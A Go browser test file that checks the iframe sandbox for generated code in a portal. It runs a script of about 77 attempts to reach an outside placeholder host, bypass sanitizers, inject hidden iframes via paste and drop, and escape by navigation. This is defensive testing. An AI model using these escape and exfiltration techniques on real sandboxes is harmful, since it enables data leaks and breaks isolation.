package assets_test

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/input"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/copilot-portal/portal/server/portaltest"
)

// evil is unchecked code. Each part attempts something forbidden and records the result. ADDRESS is a listener that must not be reached.
const evil = `(() => {
  const tried = globalThis.tried = {};
  const attempt = (name, act) => {
    try {
      const result = act();
      tried[name] = result === undefined ? "nothing" : String(result);
      result?.then?.((value) => (tried[name] = "done: " + value), (error) => (tried[name] = "refused: " + error));
    } catch (error) {
      tried[name] = "refused: " + error.name;
    }
  };
  const far = (name) => "http://ADDRESS/" + name;
  const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
  attempt("fetch", () => { const plain = new Request(far("fetch")); return Reflect.get(globalThis, "fetchLater")?.(plain) ?? "none"; });
  attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", far("xhr")); x.send(); });
  attempt("socket", () => new WebSocket("ws://ADDRESS/socket"));
  attempt("events", () => new EventSource(far("events")));
  attempt("transport", () => new WebTransport("https://ADDRESS/transport"));
  attempt("beacon", () => navigator.sendBeacon(far("beacon"), "x"));
  attempt("battery", () => navigator.getBattery());
  attempt("gamepads", () => navigator.getGamepads());
  attempt("deferred", () => { if (!document.featurePolicy.allowsFeature("deferred-fetch-minimal")) throw new Error("by policy"); });
  attempt("peer", () => new RTCPeerConnection({ iceServers: [{ urls: "stun:ADDRESS" }] }));
  attempt("image", () => { new Image().src = far("image"); });
  attempt("style", () => { document.body.style.backgroundImage = "url(" + far("style") + ")"; });
  attempt("sheet", () => add("style", { textContent: "@import '" + far("sheet") + "'; @font-face { font-family: x; src: url('" + far("font") + "') } body { font-family: x }" }));
  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "stylesheet", "icon", "manifest", "prerender"]) {
    attempt("link " + rel, () => add("link", { rel, href: far("link"), as: "image" }));
    attempt("markup " + rel, () => { document.body.innerHTML += '<link rel="' + rel + '" href="' + far("markup") + '" as="image">'; });
  }
  attempt("parse", () => document.body.append(new DOMParser().parseFromString('<link rel="preconnect" href="' + far("parse") + '">', "text/html").head.firstChild));
  attempt("two names", () => { let n = 0; const e = document.createElement({ toString: () => (n++ ? "link" : "div") }); e.rel = "preconnect"; e.href = far("names"); document.head.append(e); return e.localName; });
  attempt("disarmed", () => { Set.prototype.has = () => false; String.prototype.split = () => ["div"]; String.prototype.toLowerCase = () => "div"; const e = add("link", { rel: "preconnect", href: far("disarmed") }); });
  attempt("unsanitized", () => { const d = document.createElement("div"); document.body.append(d); d.setHTML('<link rel="preconnect" href="' + far("unsanitized") + '">', { sanitizer: {} }); });
  attempt("sanitized", () => document.body.appendChild(document.createElement("div")).setHTML('<link rel="preconnect" href="' + far("sanitized") + '">'));
  const hint = (element, name) => { element.rel = "preconnect"; element.href = far(name); document.head.append(element); return element.localName; };
  attempt("built-in link", () => { class L extends HTMLLinkElement {} customElements.define("x-l", L, { extends: "link" }); return hint(new L(), "built-in"); });
  attempt("built-in frame", () => { class F extends HTMLIFrameElement {} customElements.define("x-f", F, { extends: "iframe" }); const f = new F(); f.src = far("built-in"); document.body.append(f); });
  attempt("registry of the document", () => { class L extends HTMLLinkElement {} document.customElementRegistry.define("x-r", L, { extends: "link" }); return hint(new L(), "registry"); });
  attempt("registry of an element", () => { class L extends HTMLLinkElement {} document.body.customElementRegistry.define("x-s", L, { extends: "link" }); return hint(new L(), "registry"); });
  attempt("own registry", () => { class L extends HTMLLinkElement {} new CustomElementRegistry().define("x-o", L, { extends: "link" }); return hint(new L(), "registry"); });
  attempt("document", () => hint(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link", null).documentElement, "document"));
  attempt("document of HTML", () => hint(document.implementation.createHTMLDocument("").createElement("link"), "document"));
  attempt("stylesheet", () => {
    const space = "http://www.w3.org/1999/XSL/Transform";
    const sheet = document.implementation.createDocument(space, "xsl:stylesheet", null);
    sheet.documentElement.setAttribute("version", "1.0");
    const template = sheet.documentElement.appendChild(sheet.createElementNS(space, "xsl:template"));
    template.setAttribute("match", "/");
    const made = template.appendChild(sheet.createElementNS(space, "xsl:element"));
    made.setAttribute("name", "link");
    made.setAttribute("namespace", "http://www.w3.org/1999/xhtml");
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    return hint(processor.transformToFragment(sheet, document).firstChild, "stylesheet");
  });
  attempt("other names", () => hint(document.createElementNS("http://www.w3.org/1999/xhtml", "x:link"), "names"));
  attempt("what is there", () => document.querySelector("link, meta, base, iframe").localName);
  attempt("nested", () => add("iframe", { srcdoc: '<link rel="preconnect" href="' + far("nested") + '">' }));
  attempt("command", () => { document.body.contentEditable = "true"; document.body.focus(); return document.execCommand("insertHTML", false, '<link rel="preconnect" href="' + far("command") + '">'); });
  attempt("any markup", () => Object.getOwnPropertyNames(Element.prototype).filter((name) => /HTML/.test(name)).map((name) => { try { document.body.appendChild(document.createElement("div"))[name]('<link rel="preconnect" href="' + far("markup") + '">', { sanitizer: {} }); } catch { return ""; } }).join());
  attempt("hints on", () => { add("meta", { httpEquiv: "x-dns-prefetch-control", content: "on" }); add("a", { href: far("hints"), textContent: "x" }); });
  attempt("instruction", () => document.insertBefore(document.createProcessingInstruction("xml-stylesheet", 'type="text/css" href="' + far("instruction") + '"'), document.documentElement).target);
  attempt("payment", () => new PaymentRequest([{ supportedMethods: far("payment") }], { total: { label: "x", amount: { currency: "USD", value: "1" } } }).canMakePayment());
  attempt("identity", () => navigator.credentials.get({ identity: { providers: [{ configURL: far("identity"), clientId: "x" }] } }));
  attempt("later", () => fetchLater(far("later"), { activateAfter: 0 }).activated);
  attempt("write", () => document.write("<img src=" + far("write") + ">"));
  attempt("script", () => add("script", { src: far("script") }));
  attempt("speculation", () => add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [far("speculation")] }] }) }));
  attempt("media", () => { add("video", { src: far("video"), autoplay: true }); add("audio", { src: far("audio"), autoplay: true }); });
  attempt("object", () => { add("object", { data: far("object") }); add("embed", { src: far("embed") }); });
  attempt("frame", () => add("iframe", { src: far("frame") }));
  attempt("form", () => { const form = document.createElement("form"); form.action = far("form"); form.method = "post"; document.body.append(form); form.submit(); });
  attempt("ping", () => { const a = document.createElement("a"); a.href = "#x"; a.ping = far("ping"); document.body.append(a); a.click(); });
  attempt("popup", () => String(window.open(far("popup"))));
  attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('" + far("worker") + "')"]))));
  attempt("service", () => navigator.serviceWorker.register(far("service")));
  attempt("eval", () => (0, eval)("1 + 1"));
  attempt("function", () => new Function("return 2")());
  attempt("timer", () => setTimeout("globalThis.byTimer = 1"));
  attempt("parent", () => parent.document.title);
  attempt("top", () => { top.location.href = far("top"); });
  attempt("local", () => localStorage.setItem("a", "b"));
  attempt("session", () => sessionStorage.setItem("a", "b"));
  attempt("cookie", () => { document.cookie = "a=b"; });
  attempt("database", () => indexedDB.open("a"));
  attempt("caches", () => caches.open("a"));
  attempt("policy", () => trustedTypes.createPolicy("mine", { createHTML: (x) => x }));
  attempt("second policy", () => trustedTypes.createPolicy("portal", { createHTML: (x) => x }));
  globalThis.App = () => null;
})();`

// leaving are ways to navigate the frame, each tried in a new frame.
var leaving = map[string]string{
	"location": `location.href = "http://ADDRESS/leave"`,
	"replace":  `location.replace("http://ADDRESS/leave")`,
	"link":     `{ const a = document.createElement("a"); a.href = "http://ADDRESS/leave"; document.body.append(a); addEventListener("click", (e) => e.stopImmediatePropagation(), true); a.click(); }`,
	"built-in": `{ class M extends HTMLMetaElement {} customElements.define("x-m", M, { extends: "meta" }); const m = new M(); m.httpEquiv = "refresh"; m.content = "0;url=http://ADDRESS/leave"; document.head.append(m); }`,
	"refresh":  `{ const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=http://ADDRESS/leave"; document.head.append(m); }`,
	"portal":   `location.href = new URL("/api/copilot/session/list", location.href).href`,
	"data":     `location.href = "data:text/html,<img src=http://ADDRESS/leave>"`,
	"blob":     `location.href = URL.createObjectURL(new Blob(["<img src=http://ADDRESS/leave><link rel=preconnect href=http://ADDRESS>"], { type: "text/html" }))`,
	"scheme":   `location.href = "javascript:fetch('http://ADDRESS/leave')"`,
}

// editable is code that makes the frame editable, and puts elements on the clipboard.
const editable = `(() => {
  globalThis.edited = [];
  document.body.style.minHeight = "300px";
  document.body.contentEditable = "true";
  document.addEventListener("copy", (e) => { e.clipboardData.setData("text/html", '<iframe hidden src="http://ADDRESS/paste"></iframe><i>x</i>'); e.preventDefault(); });
  for (const type of ["paste", "drop"]) addEventListener(type, () => edited.push(type));
  document.addEventListener("beforecopy", (e) => e.preventDefault()); // enables copying without a selection
  globalThis.ready = () => { document.body.focus(); getSelection().collapse(document.body, 0); return true; };
  globalThis.App = () => null;
})();`

// toFront moves the frame under the mouse.
const toFront = `document.querySelector("iframe").style = "position: fixed; left: 0; top: 0; width: 500px; height: 500px; z-index: 999"`

// begin opens a frame as the page does, and runs a script in it.
const begin = `new Promise((done) => {
  const version = document.querySelector("script[type=module]").src.match(/v-[0-9a-f]{16}/)[0];
  for (const before of document.querySelectorAll("iframe")) before.remove(); // runs the handlers of its removal
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts";
  globalThis.heard ??= [];
  addEventListener("message", (event) => {
    if (event.source !== frame.contentWindow) return;
    heard.push(event.data.type);
    if (event.data.type === "ready") { frame.contentWindow.postMessage({ type: "show", code: CODE }, "*"); setTimeout(() => done(true), 1500); }
  });
  frame.src = version + "/frame.html";
  document.body.append(frame);
})`

// hollow replaces the frame's own script: it only runs the given code.
const hollow = `const policy = trustedTypes.createPolicy("portal", { createScriptURL: (url) => url });
addEventListener("message", ({ data }) => {
	if (data.type !== "show") return;
	const script = document.createElement("script");
	script.src = policy.createScriptURL(URL.createObjectURL(new Blob([data.code], { type: "text/javascript" })));
	document.body.append(script);
});
parent.postMessage({ type: "ready" }, "*");`

var scriptOfFrame = regexp.MustCompile(`(?s)<script>.*</script>`)

// byHeadersAlone removes the frame's own script.
func byHeadersAlone(r *http.Response) error {
	document, err := io.ReadAll(r.Body)
	if err != nil {
		return err
	}
	sum := sha256.Sum256([]byte(hollow))
	hash := regexp.MustCompile(`'sha256-[^']*'`).ReplaceAllString(r.Header.Get("Content-Security-Policy"), "'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"'")
	r.Header.Set("Content-Security-Policy", hash)
	text := scriptOfFrame.ReplaceAllLiteralString(string(document), "<script>"+hollow+"</script>")
	r.Body, r.ContentLength = io.NopCloser(strings.NewReader(text)), int64(len(text))
	r.Header.Set("Content-Length", strconv.Itoa(len(text)))
	return nil
}

// byPolicyAndScript removes the headers that only some browsers support.
func byPolicyAndScript(r *http.Response) error {
	for _, name := range []string{"Connection-Allowlist", "Permissions-Policy", "X-DNS-Prefetch-Control"} {
		r.Header.Del(name)
	}
	return nil
}

// through is a proxy of a portal that changes the response for the frame.
func through(t *testing.T, portal *portaltest.Portal, change func(*http.Response) error) string {
	t.Helper()
	target, err := url.Parse(portal.URL)
	require.NoError(t, err)
	s := httptest.NewServer(&httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) { r.SetURL(target); r.Out.Header.Del("Accept-Encoding") },
		ModifyResponse: func(r *http.Response) error {
			if !strings.HasSuffix(r.Request.URL.Path, "/frame.html") {
				return nil
			}
			return change(r)
		},
	})
	t.Cleanup(s.Close)
	return s.URL
}

// Each layer of protection works without the other.
func TestHostileCodeCannotLeaveItsFrame(t *testing.T) {
	t.Parallel()
	chromium, portal := portaltest.StartChromium(t), startPortal(t, portaltest.Options{Args: []string{"--copilot-path", "/nowhere"}})
	for name, frame := range map[string]struct {
		url     string
		refused []string // besides those refused by the policy
		script  bool     // the frame has its own script
		leaves  bool     // a navigation can connect
	}{
		"all layers":                             {portal.URL, slices.Concat(refusedByHeaders, refusedByScript), true, false},
		"headers only":                           {through(t, portal, byHeadersAlone), refusedByHeaders, false, false},
		"policy and script, without the headers": {through(t, portal, byPolicyAndScript), refusedByScript, true, true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := openHostile(t, chromium, frame.url)
			h.run(evil)
			refused := slices.Concat(refusedByPolicy, frame.refused)
			tried := h.tried(frame.url, refused)
			require.Len(t, tried, 77, "every attempt was made: %v", tried)
			for _, name := range refused {
				assert.Contains(t, tried[name], "refused", name)
			}
			h.run(editable)
			pasted, dropped := h.edit(frame.url)
			assert.Equal(t, frame.script, pasted == 0, "%d elements were pasted", pasted)
			assert.Equal(t, frame.script, dropped == 0, "%d elements were dropped", dropped)
			h.run("globalThis.App = () => null") // handlers of the frame's removal have run
			assert.Zero(t, h.came.Load(), "there was no connection: %v", tried)
			for name, code := range leaving {
				h.run(code)
				assert.Zero(t, h.spoke.Load(), name)
				if !frame.leaves {
					assert.Zero(t, h.came.Load(), name)
				}
			}
			title, err := chromedp.Run(h.tab, chromedp.Evaluate[string](`document.title + " " + localStorage.length + " " + location.pathname`))
			require.NoError(t, err)
			assert.Contains(t, title, "Copilot Portal 0 /")
			_ = chromedp.Do(h.tab, chromedp.Navigate("http://"+h.address+"/")) // closes the connection
			assert.NotZero(t, h.spoke.Load(), "connections are counted")
		})
	}
}

var (
	refusedByPolicy  = []string{"eval", "function", "timer", "parent", "local", "session", "cookie", "worker", "service", "policy", "second policy", "write", "parse", "top", "payment", "identity", "gamepads", "command"}
	refusedByHeaders = []string{"deferred"}
	refusedByScript  = []string{"beacon", "battery", "peer", "later", "unsanitized", "built-in link", "built-in frame", "registry of the document", "registry of an element", "own registry", "document", "stylesheet", "what is there"}
)

// hostile is a tab that runs unchecked code in frames, and a listener that must not be reached.
type hostile struct {
	*testing.T
	tab         context.Context //nolint:containedctx // chromedp keeps the tab in it
	address     string
	came, spoke *atomic.Int32
}

func openHostile(t *testing.T, chromium *portaltest.Chromium, url string) *hostile {
	t.Helper()
	h := &hostile{T: t}
	h.address, h.came, h.spoke = listener(t)
	tab := chromium.OpenInProfile(t, "about:blank")
	tab.IgnoreConsole() // it reports every refusal
	ctx, cancel := context.WithTimeout(tab.Context, 10*time.Minute)
	t.Cleanup(cancel)
	h.tab = ctx
	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(url+"/#/status")))
	return h
}

// run runs code in a new frame.
func (h *hostile) run(code string) {
	h.Helper()
	raw, err := json.Marshal(strings.ReplaceAll(code, "ADDRESS", h.address))
	require.NoError(h, err)
	shown, err := chromedp.Run(h.tab, chromedp.Evaluate[bool](strings.Replace(begin, "CODE", string(raw), 1), chromedp.EvalAwaitPromise))
	require.NoError(h, err)
	require.True(h, shown)
}

// tried returns the results of the attempts. It waits a while until they were made and the given ones are refused, which some are later.
func (h *hostile) tried(portal string, refused []string) (tried map[string]string) {
	h.Helper()
	frame := h.frame(portal, `"tried" in globalThis`)
	for deadline := time.Now().Add(soon); time.Now().Before(deadline); <-time.After(tick) {
		var err error
		tried, err = chromedp.Run(frame, chromedp.Evaluate[map[string]string](`globalThis.tried`))
		require.NoError(h, err)
		if len(tried) == 77 && !slices.ContainsFunc(refused, func(name string) bool { return !strings.Contains(tried[name], "refused") }) {
			break
		}
	}
	return tried
}

// edit pastes and drops elements into the frame until both events arrived, and counts the elements.
func (h *hostile) edit(portal string) (pasted, dropped int) {
	h.Helper()
	frame := h.frame(portal, `"ready" in globalThis`)
	drag := func(kind input.DispatchDragEventType) chromedp.Action[chromedp.Void] {
		return command(input.DispatchDragEvent, input.DispatchDragEventParams{Type: kind, X: 100, Y: 100, Data: &input.DragData{
			DragOperationsMask: 1, Items: []*input.DragDataItem{{MimeType: "text/html", Data: `<iframe hidden src="http://` + h.address + `/drop"></iframe><b>x</b>`}},
		}})
	}
	for h.tab.Err() == nil {
		require.NoError(h, chromedp.Do(h.tab, chromedp.Evaluate[chromedp.Void](toFront), chromedp.MouseClickXY(100, 100)))
		require.NoError(h, chromedp.Do(frame, chromedp.Evaluate[chromedp.Void](`ready()`), edits("copy", 'c'), edits("paste", 'v')))
		require.NoError(h, chromedp.Do(h.tab, drag(input.DispatchDragEventTypeDragEnter), drag(input.DispatchDragEventTypeDragOver), drag(input.DispatchDragEventTypeDrop)))
		had, err := chromedp.Run(frame, chromedp.Evaluate[bool](`edited.includes("paste") && edited.includes("drop")`))
		require.NoError(h, err)
		if had {
			break
		}
	}
	made, err := chromedp.Run(frame, chromedp.Evaluate[[2]int](`[document.querySelectorAll("i").length, document.querySelectorAll("b").length]`))
	require.NoError(h, err)
	return made[0], made[1]
}

// edits is an editing key, pressed with Ctrl.
func edits(by string, key rune) chromedp.Action[chromedp.Void] {
	upper := unicode.ToUpper(key)
	return command(input.DispatchKeyEvent, input.DispatchKeyEventParams{
		Type: input.DispatchKeyEventTypeRawKeyDown, Key: string(key), Code: "Key" + string(upper), WindowsVirtualKeyCode: int64(upper), Modifiers: 2, Commands: []string{by},
	})
}

func command[P any](c cdp.Command[P, cdp.Empty], params P) chromedp.Action[chromedp.Void] {
	return chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := cdp.Call(ctx, t, c, params)
		return err
	})
}

// frame returns the current frame once a condition is true in it. Frames that were removed may still be listed.
func (h *hostile) frame(portal, condition string) context.Context {
	h.Helper()
	var all []*target.Info
	known := map[target.ID]context.Context{} // they end with the tab
	for deadline := time.Now().Add(soon); time.Now().Before(deadline); <-time.After(tick) {
		var err error
		all, err = chromedp.Targets(h.tab)
		require.NoError(h, err)
		for _, one := range all {
			if one.Type != "iframe" || !strings.HasPrefix(one.URL, strings.TrimSuffix(portal, "/")) {
				continue
			}
			if known[one.TargetID] == nil {
				known[one.TargetID], _ = chromedp.NewContext(h.tab, chromedp.WithTargetID(one.TargetID)) //nolint:fatcontext // one per frame
			}
			if is, err := chromedp.Run(known[one.TargetID], chromedp.Evaluate[bool](condition)); err == nil && is {
				return known[one.TargetID]
			}
		}
	}
	require.Fail(h, "there is no frame", "%v", all)
	return nil
}

// The generated code hangs: the page stops it and reports that.
func stopsHangingInterface(t page) {
	b := t.open(t.portal.URL + "/#/interfaces")
	text, _ := herons(t.T, "Loops", "<!-- demo: hostile loop -->")
	makes(b, "loops.json", text)
	b.WaitText(id("trouble"), "did not respond")
	assert.True(t, b.Is(`document.querySelector("iframe") === null && document.querySelector('[data-testid="repair"]') !== null`))
	b.Click(id("delete"))
	b.WaitText("dialog[open]", "cannot be undone")
}
